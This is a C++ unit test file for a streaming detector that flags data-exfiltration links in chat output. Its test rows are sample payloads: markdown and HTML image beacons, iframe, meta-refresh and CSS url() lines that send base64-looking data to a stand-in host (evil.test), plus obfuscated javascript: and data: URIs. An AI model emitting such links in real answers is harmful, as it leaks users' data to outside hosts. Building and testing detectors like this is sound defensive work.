// What carries data out of an answer is found, whole and in pieces, and what chats write is not.
#include "controls/content/links.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace tollgate::content {
namespace {

const std::vector<std::string> kAllowed = {"docs.example.com", "*.trusted.example"};

struct Read {
  std::vector<StreamMatch> found;
  bool is_sound = true;  // No byte of a match was decided before it was known.
  std::size_t held_most = 0;
};

Read read(std::string_view text, std::size_t step) {
  Read made;
  LinkReader reader(kAllowed);
  std::size_t gone = 0;
  const auto take = [&](std::size_t known) {
    for (std::size_t i = known; i < made.found.size(); ++i) {
      made.is_sound = made.is_sound && made.found[i].extent.begin >= gone;
    }
    EXPECT_GE(reader.decided(), gone);
    gone = reader.decided();
    made.held_most = std::max(made.held_most, reader.size() - gone);
  };
  for (; !text.empty(); text.remove_prefix(std::min(step, text.size()))) {
    const std::size_t known = made.found.size();
    reader.read(text.substr(0, step), made.found);
    take(known);
  }
  const std::size_t known = made.found.size();
  reader.end(made.found);
  take(known);
  return made;
}

// `|` begins and ends what is found.
TEST(Links, ThatCarryDataAreFound) {
  const struct {
    std::string text;
    std::string_view rule;
  } rows[] = {
      {"Done. ![x](|https://evil.test/a.png?d=c2VjcmV0|) More.", "links.image"},
      {"![x](|//evil.test/a.png?d=1| \"title\")", "links.image"},
      {"![a [b] c](|HTTPS://evil.test?q=1|)", "links.image"},
      {"![x]( <|https://evil.test/? a b|>)", "links.image"},
      {"![x](|https://evil.test/c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.png|)", "links.image"},
      {"![x](|https://c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.evil.test/|)", "links.image"},
      {"![x](|https://docs.example.com@evil.test/a?b=c|)", "links.image"},
      {"![x](|https://secret@docs.example.com/a|)", "links.image"},
      {"![x](|https://evil.test/\\?q=1|)", "links.image"},
      {"![x][ref]\n\n[ref]: |https://evil.test/p.gif?data=1|\n", "links.image"},
      {"[ref]: <|https://evil.test/p.gif?data=1|>", "links.image"},
      {"<img src=\"|https://evil.test/p?x=1|\">", "links.image"},
      {"<IMG alt='>' SRC = |https://evil.test/p?x=1|>", "links.image"},
      {"<img src='|https:\\\\evil.test/p?x=1|'>", "links.image"},
      {"<iframe src=|//evil.test/?x=1| >", "links.image"},
      {"<p><td style=\"|background: url(https://evil.test/?x=1)|\">", "links.image"},
      {"<meta http-equiv=refresh content=\"|0;url=https://evil.test/?x=1|\">", "links.image"},
      {"<link rel=stylesheet href=\"|https://evil.test/?x=1|\">", "links.image"},
      {"[click here](|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|)", "links.link"},
      {"<a href=\"|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|\">", "links.link"},
      {"<|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|>", "links.link"},
      {"[click](|https://user:c2VjcmV0@evil.test/|)", "links.link"},
      {"![x](|https://evil.test/[REDACTED:secrets.jwt#1]|)", "links.image"},
      {"<img src=\"|//evil.test/a[REDACTED:pii.email#2].png|\">", "links.image"},
      {"[click](|https://evil.test/[REDACTED:pii.email#12]|)", "links.link"},
      {"[click](|JavaScript:alert(1)|)", "links.script"},
      {"[click](|java&#115;cript:alert(1)|)", "links.script"},
      {"[click](|https&colon;//evil.test/|)", "links.script"},
      {"<a href=\"|java\nscript:alert(1)|\">", "links.script"},
      {"[click](|data:text/html;base64,PHNjcmlwdD4=|)", "links.script"},
      {"![x](|data:image/svg+xml;base64,PHN2Zz4=|)", "links.script"},
  };
  for (const auto& row : rows) {
    SCOPED_TRACE(row.text);
    std::string text = row.text;
    const std::size_t begin = text.find('|');
    text.erase(begin, 1);
    const std::size_t end = text.find('|');
    text.erase(end, 1);
    for (std::size_t step = 1; step <= text.size(); ++step) {
      const Read found = read(text, step);
      ASSERT_EQ(found.found.size(), 1U) << step;
      EXPECT_EQ(found.found[0].rule, row.rule);
      EXPECT_EQ(found.found[0].extent.begin, begin);
      EXPECT_EQ(found.found[0].extent.end, end);
      EXPECT_TRUE(found.is_sound) << step;
    }
  }
}

TEST(Links, ThatCarryNothingAreNot) {
  const std::string_view texts[] = {
      "See [the manual](https://www.example.org/guide/install.html#step-2).",
      "![a cat](https://images.example.org/2024/10/cat.png) and ![](/local.png?v=2)",
      "![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
      "![chart](https://docs.example.com/render?from=2024&to=2025&series=all)",
      "![chart](https://a.trusted.example:8443/render?from=2024)",
      "![chart](https://a.trusted.example/[REDACTED:pii.email#1])",
      "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
      "[mail](mailto:someone@example.org?subject=Hello%20there%20and%20more)",
      "[1]: https://www.rfc-editor.org/rfc/rfc9110.html\n[2]: #notes",
      "if (a <b && c> d) { x[i](y); map[k]: v; return f<T>(z); }",
      "<a href='https://www.example.org/a/b'>text</a> <img src=\"cat.png?size=2\">",
      "const [a, b]: [string, number] = tuple; // see https://x.test/?q=0123456789abcdef012345",
      "array[0](x) and a ]( and [x]() and <> and < a and <3 and [x](",
  };
  for (const std::string_view text : texts) {
    SCOPED_TRACE(text);
    for (std::size_t step = 1; step <= text.size(); ++step) {
      EXPECT_TRUE(read(text, step).found.empty()) << step;
    }
  }
}

TEST(Links, OfAllowedHostsDoNotWaitForTheirEnd) {
  const Read read_all =
      read("![chart](https://docs.example.com/render?from=2024&to=2025&series=all&more=of-it)", 1);
  EXPECT_LE(read_all.held_most, std::string_view("https://docs.example.com/").size());
  EXPECT_EQ(read("plain text, [brackets] and (more) and a < b", 1).held_most, 0U);
}

TEST(Links, AreReadToABound) {
  for (const std::string& begin : {std::string("![x](https://evil.test/"),
                                   std::string("<img style=\""), std::string("![x](")}) {
    const Read found = read(begin + std::string(100'000, 'a'), 7);
    EXPECT_LE(found.held_most, LinkReader::kAddressMax + 16);
    EXPECT_TRUE(found.is_sound);
  }
  EXPECT_EQ(read("![x](https://evil.test/" + std::string(5'000, 'a'), 1).found.size(), 1U);
  EXPECT_EQ(read(std::string(100'000, '[') + "](https://evil.test/?x=1)", 9).found.size(), 1U);
}

}  // namespace
}  // namespace tollgate::content
